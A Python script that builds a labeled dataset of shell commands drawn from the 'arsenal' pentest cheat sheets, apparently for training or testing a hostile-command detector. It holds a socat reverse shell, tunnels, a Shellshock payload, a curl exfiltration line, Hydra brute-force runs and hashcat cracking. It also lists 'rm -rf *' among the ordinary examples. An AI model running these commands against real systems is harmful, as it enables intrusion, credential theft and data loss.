_ARS = "arsenal placeholders (<ip>, <port|default>, <filename-txt>, ...) filled with the default or an example value"
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Network/socat.md", "033b70b463c29fc712b548aa38a8de4a3e950045")
add(M, "tunnel", "socat", r'''
./socat TCP-LISTEN:4444,fork,reuseaddr TCP-LISTEN:8080
./socat TCP:203.0.113.40:4444 TCP:127.0.0.1:8080
''', note=_ARS)
add(M, "reverse_shell", "socat", r'''
./socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.40:4444
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Network/chisel.md", "033b70b463c29fc712b548aa38a8de4a3e950045")
add(M, "tunnel", "chisel", r'''
./chisel server -v -p 8000 --reverse
./chisel client -v 203.0.113.40:8000 R:2222:localhost:22
./chisel client -v 203.0.113.40:8000 0.0.0.0:4445:127.0.0.1:4444
./chisel client 203.0.113.40:8000 R:socks
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Network/network.md", "83a7f90edebe9748f0bb905422f5fcaad0ed7a97")
add("public_host", None, "network, ip / portquiz", r'''
curl https://ipinfo.io/8.8.8.8
curl https://ipinfo.io/
curl https://ipecho.net/plain/
curl portquiz.net:8080
nc -v portquiz.net 8080
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Linux/linux.md", "28d09782547f4038010534f99b3489c91e9c6d5f")
add("ordinary", None, "linux bash", r'''
ps -A
killall nginx
hostname
users
cal
date
ps -ef | grep apache | grep -v grep
chgrp staff developers
ls -Slrh
ls -altr
ls *.txt
find . -name *.txt -print
mkdir build
rmdir build
rm -rf build
rm -rf *
cd src
ln -s /opt/app current
ln -sfn /opt/app current
unlink current
touch notes.txt
cp notes.txt notes-copy.txt
cp -a old-folder/ new-folder
mv old.txt new.txt
mv -i old.txt new.txt
rm notes.txt
find notes.txt
grep -r TODO *
sed -i s/foo/bar/g notes.txt
md5sum notes.txt
tar c src | md5sum
openssl enc -aes-256-cbc -e -in notes.txt -out notes.enc
openssl enc -aes-256-cbc -d -in notes.enc -out notes.txt
df -h
du -hs
ps aux | grep php
tail error.log -f -n 0
export TESTING=on
echo $TESTING
unset TESTING
echo Hello > hello.txt
cat file1.txt >> file2.txt
sort hello.txt
cat file1.txt | sort > sorted-file1.txt
sort file1.txt | uniq > uniq-file1.txt
''', note=_ARS)
add(M, "network_scan", "shellshock", r'''
curl -A "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id" http://198.51.100.60/cgi-bin/status
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Linux/misc.md", "0cab6a6f0550e59b2a5f128905126ed52cc5220d")
add("ordinary", None, "json / misc, linux", r'''
cat data.json | ruby -ryaml -rjson -e 'puts YAML.dump(JSON.load(ARGF))'
grep open scan.txt | tr '\n' ' '
grep open scan.gnmap|cut -d ' ' -f 2 | tr '\n' ' '
''', note=_ARS)
add(M, "exfiltration", "qr code", r'''
echo secret | curl -F-=\<- qrenco.de
''', note=_ARS)
add(M, "network_scan", "scanner", r'''
amap -d 198.51.100.60 80
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Files/Server/server.md", "033b70b463c29fc712b548aa38a8de4a3e950045")
add("ordinary", None, "server", r'''
python -m SimpleHTTPServer 8080
python3 -m http.server 8080
php -S 0.0.0.0:8080
''')
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Password cracking/hashcat.md", "033b70b463c29fc712b548aa38a8de4a3e950045")
add(M, "credential_access", "hashcat", r'''
hashcat -a 0 -m 400 hashes /usr/share/wordlist/rockyou.lst
hashcat -a 0 -m 400 hashes /usr/share/wordlist/rockyou.lst -r /usr/share/doc/hashcat/rules/best64.rule
hashcat -m 13100 --force -a 0 hashes /usr/share/wordlist/rockyou.lst
hashcat -m 3000 -a 0 hashes /usr/share/wordlist/rockyou.lst
hashcat -m 1000 -a 0 hashes /usr/share/wordlist/rockyou.lst
hashcat -m 5500 -a 0 hashes /usr/share/wordlist/rockyou.lst
hashcat -m 5600 -a 0 hashes /usr/share/wordlist/rockyou.lst
hashcat -m 5600 --force -a 1 hashes myCustomWordlist.txt myCustomWordlist.txt
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/BruteForce/hydra.md", "28d09782547f4038010534f99b3489c91e9c6d5f")
add(M, "credential_access", "Hydra", r'''
hydra -L users.txt -P pass.txt 198.51.100.60 ssh
hydra -l root -p root 198.51.100.60 ssh
hydra -L users.txt -e s 198.51.100.60 ssh
hydra -l root -e n 198.51.100.60 ssh
hydra -L users.txt -e r 198.51.100.60 ssh
hydra -t 4 -s 2222 -C logins.txt 198.51.100.60 ssh
hydra -L users.txt -P pass.txt 198.51.100.60 ftp
hydra -L users.txt -P pass.txt 198.51.100.60 smb
hydra -L users.txt -P pass.txt 198.51.100.60 mysql
hydra -L users.txt -P pass.txt 198.51.100.60 vnc
hydra -L users.txt -P pass.txt 198.51.100.60 postgres
hydra -L users.txt -P pass.txt 198.51.100.60 telnet
''', note=_ARS)
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Protocol/ssh.md", "033b70b463c29fc712b548aa38a8de4a3e950045")
add(M, "tunnel", "ssh", r'''
ssh -L 8080:10.0.0.5:80 www-data@198.51.100.60
ssh -R 0.0.0.0:9090:127.0.0.1:8080 www-data@198.51.100.60
ssh -D 1080 www-data@198.51.100.60
''', note=_ARS)
add(M, "credential_access", "ssh: msf - bruteforce username", r'''
msfconsole -x "use scanner/ssh/ssh_enumusers; set RHOSTS 198.51.100.60; set USER_FILE users.txt; set CHECK_FALSE true; exploit"
''', note=_ARS)
add(M, "network_scan", "ssh: get public ssh key of server", r'''
ssh-keyscan -t rsa 198.51.100.60 -p 22
''', note=_ARS)
add("ordinary", None, "ssh: Start ssh agent", r'''
eval "$(ssh-agent -s)"; ssh-add
''')
S("Orange-Cyberdefense/arsenal", "arsenal/data/cheats/Linux/crontab.md", "83a7f90edebe9748f0bb905422f5fcaad0ed7a97")
add("ordinary", None, "Crontab", r'''
crontab -l
crontab -e
''')
